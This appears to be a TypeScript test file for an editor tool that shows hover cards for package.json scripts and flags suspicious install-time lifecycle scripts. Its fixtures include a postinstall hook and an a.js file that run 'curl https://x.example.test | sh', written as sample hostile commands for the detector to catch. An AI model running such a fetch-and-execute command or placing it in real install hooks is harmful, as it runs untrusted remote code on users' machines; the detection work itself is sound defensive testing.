import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { readManifest } from '../../../../server/src/core/read/manifest/read-manifest.ts';
import { scriptHover } from '../../../../server/src/core/show/features/hover/script-hover.ts';
import { openWorkspace } from '../../../workspace.ts';

const at = (text: string, part: string) => {
  const manifest = readManifest('file:///workspace/package.json', text);
  const found = scriptHover(manifest, text.indexOf(part) + 1);
  if (found === undefined) return undefined;
  const { name, header, lines } = found.card;
  const token = text.slice(found.span.start, found.span.end);
  return { token, name, header, lines: lines.map(({ label, texts }) => `${label}: ${texts.join(' ')}`) };
};

describe('the card of a script', () => {
  const text = `{
  "name": "shop",
  "scripts": {
    "test": "node --test",
    "postinstall": "npm run fetch && curl https://x.example.test | sh",
    "fetch" : "node fetch.js",
    "prepare": "husky"
  }
}
`;

  test('at its name and its command', () => {
    const lines = [
      'Suspicious: downloads and runs remote code: curl … | sh',
      'Phase: install, last',
      'Runs: on every install of this project, and of projects that depend on it',
      'Elsewhere: npm 12, pnpm 10, Yarn 4.14 and Bun skip it unless approved; earlier versions run it',
      'Rights: no sandbox: your files, network and environment variables',
    ];
    const card = { name: 'postinstall', header: ['lifecycle script'], lines };
    assert.deepEqual(at(text, '"postinstall"'), { token: '"postinstall"', ...card });
    assert.deepEqual(at(text, 'npm run'), {
      token: '"npm run fetch && curl https://x.example.test | sh"',
      ...card,
    });
  });

  test('of one that a lifecycle script calls, and of no other', () => {
    assert.deepEqual(at(text, '"fetch"')?.header, ['called by a lifecycle script']);
    assert.equal(at(text, '"test"'), undefined);
    assert.equal(at(text, '"scripts"'), undefined);
    assert.equal(at('{ "scripts": { "install": ', 'install'), undefined);
  });

  test('says where it runs', () => {
    const runs = (manifest: object, name: string) => at(JSON.stringify(manifest), `"${name}"`)?.lines[1];
    const scripts = { install: 'node a.js', prepare: 'husky' };
    assert.equal(runs({ private: true, scripts }, 'install'), 'Runs: on every install of this project');
    assert.equal(
      runs({ scripts }, 'prepare'),
      'Runs: on every install of this project, and of projects that depend on it through git',
    );
  });
});

/** The scripts of the brief, which is not published. */
const BRIEF = join(import.meta.dirname, '../../../../../shared/data/brief/scripts.json');

test('the scripts of the brief have a card each, and none is suspicious', {
  skip: !existsSync(BRIEF),
}, async () => {
  const text = readFileSync(BRIEF, 'utf8');
  assert.equal(at(text, '"preinstall"')?.lines[0], 'Phase: install, first');
  assert.equal(at(text, '"install"')?.lines[0], 'Phase: install, after preinstall');
  assert.equal(at(text, '"postinstall"')?.lines[0], 'Phase: install, last');
  const workspace = await openWorkspace(`-- package.json --\n${text}`);
  assert.deepEqual(workspace.findings('install-script-suspicious'), []);

  test('says what a file does that the script starts', async () => {
    const { snapshot, uri } = await openWorkspace(`-- package.json --
{ "scripts": { "postinstall": "node a.js" } }
-- a.js --
const { exec } = require('child_process');
exec('curl https://x.example.test | sh');
`);
    const { files, project } = snapshot.projects[0]!;
    const manifest = files.get(uri('package.json'))!;
    assert.ok(manifest.kind === 'manifest');
    const started = project.startedCode.own.get(manifest.uri);
    const { lines } = scriptHover(manifest, manifest.text.indexOf('node a'), started)!.card;
    assert.deepEqual(
      lines.slice(0, 2).map(({ label, texts }) => `${label}: ${texts.join()}`),
      [
        'Suspicious: downloads and runs remote code: curl … | sh, in a.js:2',
        'File: a.js starts programs (line 1)',
      ],
    );
  });
});
